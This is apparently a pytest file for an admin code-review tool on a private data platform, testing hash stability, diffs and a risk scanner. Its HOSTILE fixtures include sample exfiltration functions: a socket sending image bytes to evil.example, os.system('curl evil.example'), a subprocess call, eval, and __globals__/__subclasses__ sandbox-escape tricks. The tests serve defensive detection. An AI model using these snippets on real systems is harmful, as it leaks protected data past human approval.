"""What the admin sees before approving: stable hashes, risk flags on hostile code, diffs."""

from __future__ import annotations

import pytest

from datasite.review.findings import (
    ReviewError,
    code_diff,
    function_stem,
    normalized_hash,
    worst,
)
from datasite.review.risk import risk_report

TRAIN = '''
@sy.syft_function(input_policy=sy.MixedInputPolicy(client=ds, images=a, labels=b,
                  weights=dict), output_policy=OutputPolicyExecuteCount(limit=3))
def train_v1(images, labels, weights):
    """One local epoch of logistic regression; returns weights and metrics only."""
    import time

    import numpy as np

    start = time.time()
    x = images.reshape(len(images), -1).astype(np.float32) / 255.0
    y = labels.astype(np.float32)
    w = np.asarray(weights["w"], dtype=np.float32)
    n = x.shape[0]
    for i in range(0, n, 32):
        xb, yb = x[i : i + 32], y[i : i + 32]
        pred = 1.0 / (1.0 + np.exp(-xb @ w))
        w = w - 0.1 * xb.T @ (pred - yb) / len(xb)
    loss = float(np.mean((1.0 / (1.0 + np.exp(-x @ w)) - y) ** 2))
    accuracy = ((x @ w > 0) == (y > 0.5)).mean().item()
    return {"weights": {"w": w}, "n_samples": int(n), "compute_seconds": time.time() - start,
            "metrics": {"loss": loss, "accuracy": accuracy}}
'''


def test_whitespace_and_comments_do_not_change_the_hash() -> None:
    reformatted = TRAIN.replace(
        "    start = time.time()", "    # timing\n\n    start  =  time.time()"
    )

    assert normalized_hash(reformatted) == normalized_hash(TRAIN)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        pytest.param("0.1 * xb.T", "0.2 * xb.T", id="learning-rate"),
        pytest.param("limit=3", "limit=30", id="execution-limit"),
        pytest.param('"n_samples": int(n)', '"n_samples": int(n), "x": 1', id="extra-output"),
    ],
)
def test_any_semantic_change_changes_the_hash(old: str, new: str) -> None:
    assert normalized_hash(TRAIN.replace(old, new)) != normalized_hash(TRAIN)


def test_plain_training_function_has_no_findings_above_low() -> None:
    findings = risk_report(TRAIN, asset_args={"images", "labels"})

    assert worst(findings) == "low"
    assert {f.message for f in findings} == {"imports time", "imports numpy"}


HOSTILE = {
    "file-write": (
        "file",
        """
def steal(images):
    with open("/tmp/out.npy", "wb") as f:
        f.write(images.tobytes())
    return {"n": len(images)}
""",
    ),
    "socket": (
        "network",
        """
def steal(images):
    import socket
    s = socket.create_connection(("evil.example", 443))
    s.sendall(images.tobytes())
    return 1
""",
    ),
    "subprocess": (
        "subprocess",
        """
def steal(images):
    import subprocess
    return subprocess.run(["id"], capture_output=True).stdout.decode()
""",
    ),
    "raw-images": (
        "egress",
        """
def steal(images):
    import numpy as np
    sample = images[:10]
    out = np.asarray(sample).tolist()
    return {"pixels": out}
""",
    ),
    "per-pixel-through-loop": (
        "egress",
        """
def steal(images):
    rows = [row.copy() for row in images]
    return rows
""",
    ),
    "print-data": (
        "egress",
        """
def steal(images):
    print(images[0])
    return 0
""",
    ),
    "eval": (
        "eval",
        """
def steal(images):
    return eval("1+1")
""",
    ),
    "globals-trick": (
        "globals",
        """
def steal(images):
    g = getattr(steal, "__glo" + "bals__")
    return len(g)
""",
    ),
    "dunder-subclasses": (
        "globals",
        """
def steal(images):
    return len(().__class__.__bases__[0].__subclasses__())
""",
    ),
    "pickle": (
        "pickle",
        """
def steal(images):
    import pickle
    return len(pickle.dumps(images))
""",
    ),
    "os-system": (
        "os",
        """
def steal(images):
    import os
    os.system("curl evil.example")
    return 0
""",
    ),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_functions_are_flagged_high(name: str) -> None:
    category, code = HOSTILE[name]

    findings = risk_report(code, asset_args={"images"})

    high = {f.category for f in findings if f.severity == "high"}
    assert category in high, findings


def test_shape_and_reductions_of_the_asset_are_not_flagged() -> None:
    code = "def f(images):\n    return {'shape': images.shape, 'mean': float(images.mean())}\n"

    assert risk_report(code, asset_args={"images"}) == []


def test_unparseable_code_is_a_clear_error() -> None:
    with pytest.raises(ReviewError, match=r"does not parse \(line 1\)"):
        normalized_hash("def f(:\n")


@pytest.mark.parametrize(
    ("name", "stem"),
    [
        ("train_v2", "train"),
        ("train_3", "train"),
        ("trainv4", "train"),
        ("train", "train"),
        ("fit_model", "fit_model"),
    ],
)
def test_function_stem_matches_versions(name: str, stem: str) -> None:
    assert function_stem(name) == stem


def test_diff_shows_the_changed_line() -> None:
    diff = code_diff(TRAIN, TRAIN.replace("0.1 * xb.T", "0.5 * xb.T"), "v1", "v2")

    assert "-        w = w - 0.1 * xb.T" in diff
    assert "+        w = w - 0.5 * xb.T" in diff
    assert diff.startswith("--- v1\n+++ v2\n")
